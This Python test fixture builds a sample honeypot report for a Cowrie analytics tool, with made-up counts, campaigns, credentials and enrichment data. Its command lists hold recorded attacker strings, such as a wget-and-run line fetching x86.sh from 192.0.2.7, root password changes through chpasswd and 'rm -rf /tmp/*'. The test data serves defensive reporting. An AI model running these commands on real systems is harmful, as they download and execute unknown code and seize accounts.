"""A whole report document, written down by hand: every key of every section, with numbers that can be told apart."""

from copy import deepcopy
from datetime import date, timedelta
from typing import Any

from cowrie_assets.cowrie.attack import TACTICS
from cowrie_assets.reports.document import ReportDocument
from cowrie_assets.reports.periods import ReportType, parse_period

PERIODS: dict[ReportType, str] = {"daily": "2026-08-31", "weekly": "2026-W36", "monthly": "2026-08"}
HASH = "a65421106612df00624d7dc82975f3626f2b2aa10c08fc12b2eaa74d96dbfae6"


def sample_document(report_type: ReportType = "daily", **head: Any) -> ReportDocument:
    """A document of the day, week or month around 2026-08-31; `head` replaces keys of the top level."""
    period = parse_period(report_type, PERIODS[report_type])
    document: dict[str, Any] = {
        "schema_version": 1,
        "report_type": report_type,
        "period": period.label,
        "start": f"{period.start}T00:00:00Z",
        "end": f"{period.end}T00:00:00Z",
        "sensor": "aggregate",
        "generated_at": "2026-10-01T00:05:00.000000Z",
        "complete": True,
        "privacy": {"passwords": None, "addresses": None},
        **deepcopy(_SECTIONS),
    }
    document["volume"] = _volume(report_type, period.start, period.end)
    document["heat_map"] = _heat_map(report_type, period.start, period.end)
    document["techniques"]["by_day"] = _tactics_by_day(report_type, period.start, period.end)
    document["changes"] = _changes(report_type, period.previous().label)
    if report_type != "daily":
        _rank(document)
    return {**document, **head}  # type: ignore[typeddict-item, return-value]


def top(*items: tuple[str, int]) -> list[dict[str, Any]]:
    """A top list of `(value, count)`."""
    return [{"value": value, "count": count} for value, count in items]


def _volume(report_type: ReportType, start: date, end: date) -> dict[str, Any]:
    hours = [f"{start}T{hour:02}:00:00Z" for hour in range(24)]
    days = [f"{start + timedelta(days=day)}T00:00:00Z" for day in range((end - start).days)]
    items = [
        {
            "start": moment,
            "sessions": 40 + 13 * number % 37,
            "ssh": 30 + 11 * number % 31,
            "telnet": 3 + number % 5,
            "login_attempts": 101 + number,
            "commands": 301 + number,
            "file_downloads": 501 + number,
            "file_uploads": number % 3,
        }
        for number, moment in enumerate(hours if report_type == "daily" else days)
    ]
    return {"by": "hour" if report_type == "daily" else "day", "items": items}


def _tactics_by_day(report_type: ReportType, start: date, end: date) -> dict[str, Any] | None:
    """All sessions of a tactic on one day."""
    if report_type == "daily":
        return None
    later = (end - start).days - 1
    return {
        "days": [str(start + timedelta(days=day)) for day in range((end - start).days)],
        "tactics": [
            {"tactic": "defense-impairment", "sessions": [7, *([0] * later)]},
            {"tactic": "command-and-control", "sessions": [*([0] * later), 61]},
        ],
    }


def _heat_map(report_type: ReportType, start: date, end: date) -> dict[str, Any] | None:
    if report_type == "daily":
        return None
    first = start - timedelta(weeks=3) if report_type == "weekly" else start
    days = [first + timedelta(days=day) for day in range((end - first).days)]
    names = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
    return {
        "start": f"{first}T00:00:00Z",
        "end": f"{end}T00:00:00Z",
        "weekdays": [
            {
                "weekday": name,
                "days": sum(day.weekday() == number for day in days),
                "hours": [(hour * 7 + number * 11) % 60 * (number + 1) for hour in range(24)],
            }
            for number, name in enumerate(names)
        ],
    }


def _changes(report_type: ReportType, previous: str) -> dict[str, Any]:
    names = (
        *("sessions", "unique_ips", "login_attempts", "login_successes", "commands"),
        *("high_risk_commands", "file_downloads", "file_uploads", "unique_hashes", "unique_passwords"),
    )
    figures = {
        name: {
            "value": 7000 + 7 * number,
            "previous": 6000 + 3 * number,
            "change": 1000 + 4 * number,
            "change_percent": 16.7 + number,
            "median": 6500.5 + number,
            "change_to_median": 499.5 + 6 * number,
            "change_to_median_percent": 7.7 + number,
        }
        for number, name in enumerate(names)
    }
    figures["commands"] |= {"value": 5871, "previous": 9120, "change": -3249, "change_percent": -35.6}
    figures["file_uploads"] |= {"previous": 0, "change": 7049, "change_percent": None}
    before = parse_period(report_type, previous)
    labels = [before.label]
    for _ in range(3):
        before = before.previous()
        labels.insert(0, before.label)
    partly = [{"period": labels[0], "known_days": 0, "days": 1}]
    return {
        "previous": {"period": previous, "complete": True},
        "median_of": labels,
        "partly_known": partly,
        "figures": figures,
    }


def _rank(document: dict[str, Any]) -> None:
    """Places in the period before: the first rose, the second is new, the third fell, the others stayed."""
    for section in ("credentials", "commands", "files", "sources", "clients", "tunnels"):
        for name, items in document[section].items():
            if name.startswith("top_"):
                for place, item in enumerate(items, 1):
                    item["previous_rank"] = {1: 3, 2: None, 3: 1}.get(place, place)


def _campaign(name: str, sessions: int, before: int | None) -> dict[str, Any]:
    change = None if before is None else round(100 * (sessions - before) / before, 1)
    return {
        "campaign_id": f"{before or 0:012x}",
        "name": name,
        "first_seen": "2026-08-31T01:02:03.000000Z" if before is None else "2026-08-02T10:11:12.000000Z",
        "last_seen": "2026-08-31T22:21:20.000000Z",
        "sessions": sessions,
        "sessions_before": before,
        "change_percent": change,
        "addresses": sessions - 3,
        "networks": sessions - 6,
        "sensors": 2,
        "countries": ["NL", "CN"],
        "techniques": ["T1098.004", "T1105"],
        "hassh": ["0a" * 16],
        "files": [HASH],
        "sample": {"sensor": "hp-fra-01", "session_id": "a0b1c2d3e4f5"},
    }


_SECTIONS: dict[str, Any] = {
    "sessions": {
        "total": 1234,
        "unique_ips": 217,
        "closed": 1201,
        "with_commands": 389,
        "with_login_success": 402,
        "protocols": {"ssh": 1100, "telnet": 133},
        "avg_commands": 4.76,
        "median_commands": 2,
        "p95_commands": 19,
        "max_commands": 143,
        "min_commands": 0,
        "avg_duration_seconds": 38.41,
        "login_attempts": 5021,
        "login_successes": 411,
        "login_failures": 4610,
        "file_downloads": 61,
        "file_uploads": 12,
        "vt_flagged": 8,
        "dshield_flagged": 77,
        "commands_histogram": [
            {"from": low, "to": high, "sessions": sessions}
            for low, high, sessions in (
                *((0, 0, 845), (1, 1, 120), (2, 2, 64), (3, 5, 91), (6, 10, 50)),
                *((11, 20, 41), (21, 50, 18), (51, 100, 4), (101, None, 1)),
            )
        ],
        "durations": {
            "min_seconds": 0.02,
            "median_seconds": 6.31,
            "p95_seconds": 181.07,
            "max_seconds": 2410.55,
            "mean_seconds": 38.41,
            "histogram": [
                {"from_seconds": low, "to_seconds": high, "sessions": sessions}
                for low, high, sessions in (
                    *((0, 1, 310), (1, 5, 222), (5, 10, 341), (10, 30, 207)),
                    *((30, 60, 72), (60, 300, 53), (300, 1800, 26), (1800, None, 3)),
                )
            ],
        },
        "tunnel_requests": 93,
        "with_tunnel_requests": 31,
        "by_protocol": [
            {
                "protocol": protocol,
                "sessions": sessions,
                "with_login_success": 201 + sessions,
                "with_commands": 202 + sessions,
                "login_attempts": 203 + sessions,
                "login_successes": 204 + sessions,
                "commands": 205 + sessions,
                "file_downloads": 206 + sessions,
                "file_uploads": 207 + sessions,
                "avg_duration_seconds": 8.25 + sessions,
            }
            for protocol, sessions in (("ssh", 1100), ("telnet", 133))
        ],
    },
    "volume": {},
    "heat_map": None,
    "credentials": {
        "unique_usernames": 58,
        "unique_passwords": 812,
        "top_usernames": top(("root", 3120), ("admin", 611), ("ubuntu", 202), ("", 3)),
        "top_passwords": top(("123456", 411), ("hunter2", 305), ("hunter3", 98), ("パスワード", 4)),
        "top_combinations": top(("root:123456", 390), ("root:hunter2", 301), ("admin:admin", 88), ("a:b:c", 2)),
    },
    "commands": {
        "total": 5871,
        "unique": 318,
        "top_commands": top(
            ("uname -a", 301),
            ("cd /tmp; wget http://192.0.2.7/bins/x86.sh; sh x86.sh", 92),
            ('echo -e "hunter2\\nhunter2" | passwd', 61),
            ("cat /proc/cpuinfo | grep name | wc -l", 44),
        ),
        "high_risk_total": 161,
        "top_last_commands": top(("exit", 180), ("rm -rf /tmp/*", 52), ("uname -a", 18)),
    },
    "files": {
        "downloads": 61,
        "downloads_failed": 9,
        "uploads": 12,
        "unique_hashes": 14,
        "top_hashes": top((HASH, 31), (HASH[::-1], 12), (HASH[8:] + HASH[:8], 2)),
        "top_urls": top(("http://192.0.2.7/bins/x86.sh", 22), ("ftp://files.example/x", 3)),
        "vt_malicious": 5,
    },
    "sources": {
        "top_ips": top(("192.0.2.1", 161), ("198.51.100.23", 71), ("2001:db8::17", 4)),
        "addresses": [
            {
                "address": address,
                "network": network,
                "sessions": sessions,
                "first_event_at": "2026-08-31T00:12:01.000000Z",
                "last_event_at": "2026-08-31T22:07:40.500000Z",
                "login_attempts": 303 + sessions,
                "login_successes": 9 + sessions,
                "commands": 302 + sessions,
                "files": sessions % 9,
            }
            for address, network, sessions in (
                ("192.0.2.1", "192.0.2.0/24", 161),
                ("198.51.100.23", "198.51.100.0/24", 71),
                ("2001:db8::17", None, 4),
            )
        ],
        "unique_networks": 103,
        "top_networks": top(("192.0.2.0/24", 188), ("2001:db8::/48", 4)),
    },
    "clients": {
        "top_hassh": top(("ec7378c1a92f5a8dde7e8b7a1ddf33d1", 511), ("92674389fa1e47a27ddd8d9b63ecd42b", 107)),
        "top_versions": top(("SSH-2.0-Go", 640), ("SSH-2.0-libssh_0.9.6", 107)),
    },
    "tunnels": {"unique_targets": 18, "top_targets": top(("198.51.100.9:25", 71), ("[2001:db8::9]:443", 22))},
    "new": {
        "look_back_days": 90,
        "hashes": {"total": 3, "items": top((HASH, 31), (HASH[::-1], 12))},
        "urls": {"total": 2, "items": top(("http://192.0.2.7/bins/x86.sh", 22))},
        "commands": {"total": 25, "items": top(("cd <path>; wget <url>; sh <name>", 92))},
        "passwords": {"total": 104, "items": top(("hunter3", 98), ("t0psecret!", 6))},
        "hassh": {"total": 0, "items": []},
        "networks": {"total": 11, "items": top(("198.51.100.0/24", 73))},
        "techniques": {"total": 1, "items": top(("T1690", 7))},
    },
    "techniques": {
        "attack_version": "19",
        "sessions": 402,
        "unique": 2,
        "items": [
            {
                "technique": "T1105",
                "name": "Ingress Tool Transfer",
                "former_id": None,
                "tactics": ["command-and-control"],
                "sessions": 61,
                "new": False,
                "rules": [{"rule": "download", "sessions": 59}, {"rule": "upload", "sessions": 4}],
                "sample": {"sensor": "hp-fra-01", "session_id": "8a3bd0e1f2c4"},
            },
            {
                "technique": "T1690",
                "name": "Prevent Command History Logging",
                "former_id": "T1562.003",
                "tactics": ["defense-impairment"],
                "sessions": 7,
                "new": True,
                "rules": [{"rule": "history_prevented", "sessions": 7}],
                "sample": {"sensor": "hp-nyc-02", "session_id": "0c1d2e3f4a5b"},
            },
        ],
        "tactics": [
            {"tactic": tactic, "sessions": {"command-and-control": 61, "defense-impairment": 7}.get(tactic, 0)}
            for tactic in TACTICS
        ],
        "by_day": None,
    },
    "campaigns": {
        "waiting_days": ["2026-08-30"],
        "total": 23,
        "sessions": 391,
        "new": {"total": 21, "items": [_campaign("key mdrfckr", 57, None)]},
        "growing": {"total": 1, "items": [_campaign("echo root:hunter2|chpasswd", 119, 31)]},
        "other": {"total": 1, "items": [_campaign("host 192.0.2.7", 29, 27)]},
        "gone": {
            "total": 12,
            "items": [
                {
                    "campaign_id": "0f1e2d3c4b5a",
                    "name": "nohup ./kinsing",
                    "first_seen": "2026-08-03T01:02:03.000000Z",
                    "last_seen": "2026-08-30T13:14:15.000000Z",
                    "sessions_before": 43,
                }
            ],
        },
    },
    "snowshoe": {
        "total": 14,
        "items": [
            {
                "campaign_id": "4f3e2d1c0b5a",
                "name": "echo root:hunter2|chpasswd",
                "score": 83,
                "reasons": ["61 of 62 addresses came at most twice a sensor in 30 days"],
                "sessions": 68,
                "addresses": 62,
                "light_addresses": 61,
                "networks": 47,
                "first_seen": "2026-08-31T04:05:06.000000Z",
                "last_seen": "2026-08-31T21:22:23.000000Z",
                "top_networks": [{"value": "198.51.100.0/24", "addresses": 9}],
                "top_systems": [{"value": "AS64496 Example", "addresses": 22}],
                "top_countries": [{"value": "NL", "addresses": 26}],
                "sample": {"sensor": "hp-fra-01", "session_id": "c4b3a2918070"},
            }
        ],
    },
    "longtail": {
        "total": 15,
        "items": [
            {
                "sensor": "hp-fra-01",
                "session_id": "d4c3b2a19080",
                "src_ip": "192.0.2.44",
                "first_event_at": "2026-08-31T14:15:16.000000Z",
                "score": 42,
                "reasons": ["5 commands of no other session", "let in by a password never seen before"],
                "alike": 2,
                "campaign_id": None,
                "rare_traits": 6,
                "traits": [
                    {"kind": "command", "value": "openssl enc -d -k hunter2", "sessions": 1},
                    {"kind": "host", "value": "drop.example.net", "sessions": 3},
                ],
            }
        ],
    },
    "ssh_keys": {
        "unique": 16,
        "new": 9,
        "items": [
            {
                "fingerprint": "SHA256:FHsTyFHNmvNpw4o7+rp+M1yqMyBF8vXSBRkZtkQ0RKY",
                "type": "ssh-ed25519",
                "comment": "mdrfckr",
                "sessions": 59,
                "new": True,
            },
            {"fingerprint": "SHA256:oq7cKdz0", "type": "", "comment": None, "sessions": 13, "new": False},
        ],
    },
    "changes": {},
    "interesting": [
        {
            "sensor": "hp-fra-01",
            "session_id": "a0b1c2d3e4f5",
            "src_ip": "198.51.100.23",
            "protocol": "ssh",
            "first_event_at": "2026-08-31T04:17:09.000000Z",
            "duration_seconds": 83.11,
            "username": "root",
            "password": "hunter2",
            "client_version": "SSH-2.0-Go",
            "commands": 17,
            "login_successes": 1,
            "file_downloads": 2,
            "file_uploads": 0,
            "tunnel_requests": 0,
            "risk_score": 95,
            "score": 88,
            "alike": 41,
            "campaign": {"campaign_id": "00000000001f", "name": "echo root:hunter2|chpasswd"},
            "headline": [
                {"kind": "new_file", "value": "http://192.0.2.7/bins/x86.sh"},
                {"kind": "command", "value": "echo root:hunter2|chpasswd"},
            ],
            "reasons": ["downloads a file never seen before", "removes traces of itself"],
            "sample_commands": ["uname -a", "wget http://192.0.2.7/bins/x86.sh", "echo root:hunter2|chpasswd"],
            "shasums": [HASH],
        },
        {
            "sensor": "hp-nyc-02",
            "session_id": "00ff00ff00ff",
            "src_ip": None,
            "protocol": None,
            "first_event_at": "2026-08-31T23:59:58.500000Z",
            "duration_seconds": 1.5,
            "username": None,
            "password": None,
            "client_version": None,
            "commands": 0,
            "login_successes": 0,
            "file_downloads": 0,
            "file_uploads": 1,
            "tunnel_requests": 7,
            "risk_score": 12,
            "score": 35,
            "alike": 1,
            "campaign": None,
            "headline": [{"kind": "tunnel", "value": "198.51.100.9:25"}],
            "reasons": ["asks for 7 tunnels"],
            "sample_commands": [],
            "shasums": [],
        },
    ],
    "abnormal": {
        "rare_command_counts": [{"commands": 57, "sessions": 1}, {"commands": 143, "sessions": 2}],
        "uncommon_command_sessions": 3,
        "recent_vt_submission_sessions": 1,
        "sessions": [
            {
                "sensor": "hp-fra-01",
                "session_id": "b1b1b1b1b1b1",
                "src_ip": "192.0.2.1",
                "first_event_at": "2026-08-31T10:00:00.000000Z",
                "commands": 143,
                "reasons": ["143 commands, as 2 sessions have"],
            }
        ],
    },
    "alerts": [
        {
            "kind": "new_malware",
            "severity": "high",
            "message": "3 malicious files were not seen before.",
            "figures": {"hashes": [HASH, HASH[::-1]], "files": 3},
        },
        {
            "kind": "ip_spike",
            "severity": "medium",
            "message": "217 source addresses, 1.9 times the average of the 7 days before.",
            "figures": {"unique_ips": 217, "average": 114.3},
        },
        {
            "kind": "dead_letters",
            "severity": "low",
            "message": "1.4 % of the lines are dead letters.",
            "figures": {"dead_letters": 219, "lines": 15640, "reason": "invalid_json"},
        },
    ],
    "enrichments": {
        "verdicts_as_of": "2026-09-01T00:30:00.000000Z",
        "files": {
            "unique_hashes": 14,
            "judged": 11,
            "coverage_percent": 78.6,
            "malicious": 5,
            "clean": 6,
            "unjudged": 3,
            "unknown": 0,
            "pending": 2,
            "failed": 1,
            "classifications": top(("trojan.mirai/gafgyt", 4), ("miner.xmrig", 1)),
            "known": [
                {
                    "shasum": HASH,
                    "label": "trojan.mirai/gafgyt",
                    "type": "ELF",
                    "size": 92_104,
                    "positives": 41,
                    "total": 70,
                    "first_submitted": "2026-09-03T07:00:00.000000Z",
                    "malicious_by": ["malwarebazaar", "virustotal"],
                    "malicious_since": "2026-09-04T00:30:00.000000Z",
                    "days_before_virustotal": 3,
                }
            ],
        },
        "addresses": {
            "unique_ips": 217,
            "judged": 199,
            "coverage_percent": 91.7,
            "dshield_flagged": 35,
            "unlisted": 164,
            "unjudged": 18,
            "known": [
                {
                    "address": "192.0.2.1",
                    "country": "NL",
                    "city": None,
                    "asn": 64_500,
                    "as_name": "Example Hosting B.V.",
                    "tags": [{"list": "census", "kind": "scanner"}],
                    "listed_by": ["dshield"],
                }
            ],
        },
        "services": [
            {
                "service": "virustotal",
                "kind": "file",
                "answered": 11,
                "malicious": 5,
                "labels": top(("trojan.mirai/gafgyt", 4), ("miner.xmrig", 1)),
            },
            {"service": "dshield", "kind": "address", "answered": 199, "malicious": 35, "labels": []},
        ],
        "places": {
            "addresses": 210,
            "without_country": 7,
            "countries": [
                {"country": "NL", "sessions": 812, "addresses": 150},
                {"country": "CN", "sessions": 200, "addresses": 58},
                {"country": "SH", "sessions": 2, "addresses": 2},
            ],
            "autonomous_systems": [
                {"asn": 64_500, "name": "Example Hosting B.V.", "sessions": 800, "addresses": 140},
                {"asn": 64_501, "name": None, "sessions": 3, "addresses": 1},
            ],
        },
        "tags": {
            "known_scanners": {"sessions": 97, "addresses": 12, "percent": 7.9, "left_out": False},
            "kinds": [{"kind": "scanner", "sessions": 97, "addresses": 12}],
            "lists": [{"kind": "scanner", "sessions": 97, "addresses": 12, "list": "census"}],
        },
    },
    "operations": {
        "version": "0.1.0",
        "logs": 4,
        "lines": 15640,
        "events": 15300,
        "duplicates": 119,
        "blank": 2,
        "dead_letters": {
            "total": 219,
            "percent": 1.4,
            "by_reason": top(("invalid_json", 210), ("too_long", 9)),
        },
        "gaps": [
            {
                "sensor": "hp-nyc-02",
                "start": "2026-08-31T02:00:00Z",
                "end": "2026-08-31T06:00:00Z",
                "hours": 4,
                "unusual_hours": 2,
            }
        ],
        "unusual_gaps": 1,
        "usual_gaps": 6,
        "gap_hours": 31,
        "usual_gap_hours": 27,
        "replaced_names": [{"sensor": "3f2a9c0d1e4b", "by": "9d8c7b6a5f4e", "since": "2026-08-31T03:00:00Z"}],
        "reused_ids": {
            "total": 1,
            "sessions": [
                {
                    "sensor": "hp-fra-01",
                    "session_id": "c0ffee00c0ff",
                    "first_event_at": "2026-07-22T10:00:00.000000Z",
                    "last_event_at": "2026-08-31T10:01:00.000000Z",
                    "days": 40,
                }
            ],
        },
        "missing_days": ["2026-08-30"],
        "checks": {"passed": 17, "failed": ["evidence"], "checked_at": "2026-09-01T00:04:00.000000Z"},
    },
    "legacy": {},
}
